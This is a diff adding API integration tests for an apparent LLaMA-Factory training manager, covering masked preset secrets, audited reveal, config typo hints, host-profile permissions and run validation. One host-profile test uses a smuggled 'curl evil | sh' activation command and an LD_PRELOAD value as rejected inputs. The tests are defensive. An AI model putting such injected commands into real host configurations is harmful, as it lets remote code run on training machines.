@@ -16,6 +16,7 @@ import * as presetExport from "@/app/api/v1/presets/[id]/export/route";
 import * as presetImport from "@/app/api/v1/presets/import/route";
 import * as hosts from "@/app/api/v1/hosts/route";
 import * as gpus from "@/app/api/v1/hosts/[id]/gpus/route";
+import * as hostProfile from "@/app/api/v1/hosts/[id]/profile/route";
 import * as openapi from "@/app/api/v1/openapi.json/route";
 
 let fx: TApiFixture;
@@ -153,9 +154,58 @@ test("presets: create, read by name, new version, export bytes, import = create 
   assert.ok(l.json.presets.some((p: any) => p.name === iname && p.latestVersion === 2));
 });
 
+test("presets with a secret: export is masked; reveal=true is for operators (audited, keys only); an unknown key is refused at import with a guess", async () => {
+  const op = fx.users.OPERATOR.token;
+  const name = `${fx.tag}-secret`;
+  const token = "hf_ApiIntTestToken0123456789abcdefghij";
+  const base = (await prisma.presetVersion.findUniqueOrThrow({ where: { id: fx.presetVersionId } })).yaml;
+  const c = await call(presets.POST, { url: "/api/v1/presets", method: "POST", auth: op, body: { name, yaml: `${base}hub_token: ${token}\n` } });
+  assert.equal(c.status, 201, c.text);
+  const masked = await call(presetExport.GET, { url: `/api/v1/presets/${c.json.id}/export`, auth: fx.users.VIEWER.token, params: { id: c.json.id } });
+  assert.ok(!masked.text.includes(token));
+  assert.match(masked.text, /^hub_token: "?••••••••"?$/m);
+  const refused = await call(presetExport.GET, { url: `/api/v1/presets/${c.json.id}/export?reveal=true`, auth: fx.users.VIEWER.token, params: { id: c.json.id } });
+  assert.equal(refused.status, 403);
+  const clear = await call(presetExport.GET, { url: `/api/v1/presets/${c.json.id}/export?reveal=true`, auth: op, params: { id: c.json.id } });
+  assert.equal(clear.text, `${base}hub_token: ${token}\n`);
+  const audit = await prisma.auditEvent.findFirstOrThrow({ where: { action: "preset.reveal_secrets", targetId: c.json.id } });
+  assert.deepEqual(audit.data, { version: 1, keys: ["hub_token"] });
+  const typo = await call(presetImport.POST, { url: `/api/v1/presets/import?name=${name}-typo`, method: "POST", auth: op, rawBody: `${base}learnig_rate: 1.0e-4\n` });
+  assert.equal(typo.status, 400);
+  assert.match(typo.json.error.message, /learnig_rate: is not a LLaMA-Factory .* argument: did you mean `learning_rate`\?/);
+});
+
 test("openapi.json is served to signed-in callers and lists every route", async () => {
   const r = await call(openapi.GET, { url: "/api/v1/openapi.json", auth: fx.users.VIEWER.token });
   assert.equal(r.status, 200);
   assert.equal(r.json.openapi, "3.1.0");
   assert.ok(r.json.paths["/runs/{id}/kill"].post);
+});
+
+test("host runtime profile over the API: anyone reads it, only an admin saves, a bad profile is a 400 naming the field", async () => {
+  const url = `/api/v1/hosts/${fx.hostName}/profile`;
+  const got = await call(hostProfile.GET, { url, auth: fx.users.VIEWER.token, params: { id: fx.hostName } });
+  assert.equal(got.status, 200, got.text);
+  assert.equal(got.json.profile.version, 1);
+  assert.equal(got.json.profile.activation, "source ~/LLaMA-Factory/.venv/bin/activate");
+  assert.equal(got.json.runtime.lfVersion, "0.9.6.dev0");
+  const body = { activation: "source ~/venv/bin/activate; curl evil | sh", lfDir: "~/LLaMA-Factory", runsDir: "~/r" };
+  const op = await call(hostProfile.PUT, { url, method: "PUT", auth: fx.users.OPERATOR.token, params: { id: fx.hostName }, body });
+  assert.equal(op.status, 403);
+  const bad = await call(hostProfile.PUT, { url, method: "PUT", auth: fx.users.ADMIN.token, params: { id: fx.hostName }, body });
+  assert.equal(bad.status, 400, bad.text);
+  assert.equal(bad.json.error.field, "activation");
+  assert.match(bad.json.error.message, /not allow|not an activation command/);
+  const reserved = await call(hostProfile.PUT, { url, method: "PUT", auth: fx.users.ADMIN.token, params: { id: fx.hostName }, body: { ...body, activation: "", envVars: { LD_PRELOAD: "/x.so" } } });
+  assert.equal(reserved.status, 400);
+  assert.equal(reserved.json.error.field, "envVars.LD_PRELOAD");
+  assert.equal(await prisma.hostProfile.count({ where: { hostId: fx.hostId } }), 1, "nothing saved");
+});
+
+test("a launch LF would refuse is a 400 with every field named, even when the host cannot be reached for the rest of the preflight", async () => {
+  const res = await call(runs.POST, { url: "/api/v1/runs", method: "POST", auth: fx.users.OPERATOR.token,
+    body: { preset: fx.presetName, host: fx.hostName, gpus: [0], overrides: ["learnig_rate=1.0e-4", "num_train_epoch=2"] } });
+  assert.equal(res.status, 400, res.text);
+  assert.deepEqual(res.json.error.fields.map((f: { field: string }) => f.field), ["config.learnig_rate", "config.num_train_epoch"]);
+  assert.match(res.json.error.fields[1].message, /did you mean `num_train_epochs`\?/);
 });
